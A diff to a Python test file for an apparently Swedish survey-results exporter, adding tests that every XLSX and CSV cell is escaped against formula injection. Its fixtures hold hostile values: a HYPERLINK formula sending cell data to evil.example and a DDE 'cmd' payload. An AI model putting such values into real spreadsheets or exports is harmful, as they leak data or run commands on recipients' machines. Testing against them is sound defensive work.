@@ -2,6 +2,7 @@ from __future__ import annotations
 
 import csv
 import io
+import re
 from datetime import date
 from pathlib import Path
 
@@ -83,12 +84,13 @@ def test_xlsx_summary_breakdowns_and_answers(survey: Survey) -> None:
         Participation(invited=20, started=10, completed=9, opted_out=1),
         k=5,
         breakdowns=("unit", "gender"),
+        suppression="cells",
     )
     out = io.BytesIO()
     write_results_xlsx(out, survey, results, records=records)
     out.seek(0)
     book = load_workbook(out)
-    assert book.sheetnames == ["Sammanfattning", "Enhet", "Kön", "Svar"]
+    assert book.sheetnames == ["Sammanfattning", "Enhet", "Kön", "Svar", "Om svaren"]
 
     summary = book["Sammanfattning"]
     assert [c.value for c in summary[1]][:4] == ["Fråga", "Svarsalternativ", "Antal", "Andel"]
@@ -132,3 +134,57 @@ def test_xlsx_to_a_path_in_english(tmp_path: Path, survey: Survey) -> None:
     book = load_workbook(path)
     assert book.sheetnames == ["Summary"]
     assert book["Summary"]["A1"].value == "Question"
+
+
+EVIL_UNIT = '=HYPERLINK("http://evil.example/?d="&A1,"Klicka")'
+
+
+def evil_records() -> list[ResponseRecord]:
+    """A contact list whose unit and target group are formulas, and formula-like answers."""
+    out = []
+    for i in range(12):
+        rec = record(
+            i,
+            {"bemotande": "nej", "ovrigt": "@SUM(1+1)" if i == 0 else "-1+2", "besok": -3},
+            unit=EVIL_UNIT if i % 2 else "norr",
+        )
+        attributes = {**rec.attributes, "target_group": "+cmd|' /C calc'!A0"}
+        out.append(ResponseRecord(rec.respondent_id, True, rec.started_on, attributes, rec.answers))
+    return out
+
+
+def assert_no_formula(value: object, where: str) -> None:
+    if isinstance(value, str) and not re.fullmatch(r"-?\d+", value):
+        assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), f"{where}: {value!r}"
+
+
+def test_every_xlsx_cell_is_escaped_group_labels_included(survey: Survey) -> None:
+    """Issue 12 item 7: a contact's unit `=HYPERLINK(...)` must not go live in a breakdown sheet."""
+    records = evil_records()
+    results = compute(
+        survey, records, Participation(20, 12, 12, 0), k=5, breakdowns=("unit", "target_group")
+    )
+    out = io.BytesIO()
+    write_results_xlsx(out, survey, results, records=records)
+    out.seek(0)
+    book = load_workbook(out)
+    seen = set()
+    for sheet in book.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
+                assert_no_formula(cell.value, f"{sheet.title}!{cell.coordinate}")
+                seen.add(cell.value)
+    assert "'" + EVIL_UNIT in seen
+    assert "'+cmd|' /C calc'!A0" in seen
+    assert -3 in seen  # numbers stay numbers
+
+
+def test_every_csv_cell_is_escaped(survey: Survey) -> None:
+    stream = io.BytesIO()
+    write_answers_csv(stream, survey, evil_records(), lang="sv")
+    rows = list(csv.reader(io.StringIO(stream.getvalue().decode("utf-8-sig"), newline="")))
+    cells = [cell for row in rows for cell in row]
+    for cell in cells:
+        assert_no_formula(cell, "csv")
+    assert "'@SUM(1+1)" in cells and "'-1+2" in cells and "-3" in cells
